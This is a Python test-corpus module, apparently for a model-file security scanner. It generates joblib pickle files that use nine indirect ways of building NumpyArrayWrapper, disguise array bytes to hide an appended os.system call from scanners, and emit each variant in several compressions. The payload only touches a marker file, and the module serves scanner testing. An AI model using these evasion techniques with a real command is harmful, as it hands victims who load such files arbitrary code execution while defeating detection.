"""Corpus samples of issue 11 item 2: joblib's ``NumpyArrayWrapper`` built indirectly.

joblib reads raw array bytes after a ``BUILD`` on *any* instance of its wrapper (it checks with
``isinstance`` after unpickling). Each sample builds the wrapper another way, declares a 5-byte
array whose bytes, read as opcodes, swallow what follows as a string (so a scanner that misses the
wrapper sees nothing), and puts ``os.system("touch <marker>")`` right after the array, where
``joblib.load`` goes on reading. Written plain and in every compression joblib reads.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import pickletools
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.gates.model_corpus import Sample, _g, _s

WRAPPER = _g("joblib.numpy_pickle", "NumpyArrayWrapper")
_STATE = (
    b"}("
    + _s("subclass")
    + _g("numpy", "ndarray")
    + _s("shape")
    + b"K\x05\x85"
    + _s("order")
    + _s("C")
    + _s("dtype")
    + _g("numpy", "dtype")
    + _s("u1")
    + b"\x85R"
    + _s("allow_mmap")
    + b"\x89"
    + _s("numpy_array_alignment_bytes")
    + b"N"
    + b"u"
)
_INIT_ARGS = _g("numpy", "ndarray") + b"K\x05\x85" + _s("C") + _g("numpy", "dtype") + _s("u1") + b"\x85R" + b"\x87"

#: technique -> opcodes leaving a wrapper instance on the stack (``BUILD`` with the state follows)
TECHNIQUES: dict[str, bytes] = {
    "copyreg_newobj": _g("copyreg", "__newobj__") + WRAPPER + b"\x85R",
    "copyreg_reconstructor": _g("copyreg", "_reconstructor") + WRAPPER + _g("builtins", "object") + b"N\x87R",
    "newobj": WRAPPER + b")\x81",
    "newobj_ex": WRAPPER + b")}\x92",
    "obj_without_args": b"(" + WRAPPER + b"o",
    "inst_without_args": b"(ijoblib.numpy_pickle\nNumpyArrayWrapper\n",
    "pandas_new_index": _g("pandas.core.indexes.base", "_new_Index") + WRAPPER + b"}\x86R",
    "functools_partial": _g("functools", "partial") + WRAPPER + b"\x85R" + b"(" + _INIT_ARGS[:-1] + b"tR",
    "object_new": _s("builtins") + _s("object.__new__") + b"\x93" + WRAPPER + b"\x85R",
}
#: the finding each technique must produce (the payload itself once the wrapper is followed)
FINDINGS = {"functools_partial": "model-scan.pickle-joblib-wrapper", "object_new": "model-scan.pickle-unknown-global"}
COMPRESSORS: dict[str, Callable[[bytes], bytes]] = {
    "raw": lambda data: data,
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE),
    "xz": lambda data: lzma.compress(data, format=lzma.FORMAT_XZ),
}


#: made without ``__init__``: no ``numpy_array_alignment_bytes`` attribute, so joblib reads no padding byte
NO_INIT = ("obj_without_args", "inst_without_args")


def wrapper_payload(technique: str, command: str) -> bytes:
    payload = _g("os", "system") + _s(command) + b"\x85R0"
    if technique in NO_INIT:
        # a scanner assuming joblib's default alignment reads the first array byte as a padding length
        # and resumes right after the payload; a non-opcode byte, so pickle.load stops on it
        while len(payload) - 1 in _OPCODES or len(payload) > 256:
            if len(payload) > 256:
                raise ValueError("marker path too long for this sample")
            command += " "
            payload = _g("os", "system") + _s(command) + b"\x85R0"
        array = bytes([len(payload) - 1]) + b"\x00" * 4
    else:
        array = b"X" + struct.pack("<I", len(payload))  # 5 bytes of u1 data, or a string swallowing the payload
    state = _STATE.replace(_s("numpy_array_alignment_bytes") + b"N", b"") if technique in NO_INIT else _STATE
    return b"\x80\x04" + TECHNIQUES[technique] + state + b"b" + array + payload + b"."


_OPCODES = frozenset(ord(op.code) for op in pickletools.opcodes)


def write_wrapper_payloads(bad: Path, touch: Callable[[str], str]) -> list[Sample]:
    """Write every technique in every compression under ``bad``; return the samples."""
    compressors = dict(COMPRESSORS)
    try:
        import lz4.frame

        compressors["lz4"] = lz4.frame.compress
    except ImportError:  # the scanner reports lz4 files as not inspectable without it; nothing to build here
        pass
    samples = []
    for technique in TECHNIQUES:
        for name, compress in compressors.items():
            path = f"wrapper_{technique}_{name}.joblib"
            (bad / path).write_bytes(compress(wrapper_payload(technique, touch(f"wrapper_{technique}_{name}"))))
            finding = FINDINGS.get(technique, "model-scan.pickle-gadget")
            ref = "os.system" if finding == "model-scan.pickle-gadget" else None
            samples.append(Sample(f"malicious/{path}", True, None, ref, finding))
    return samples
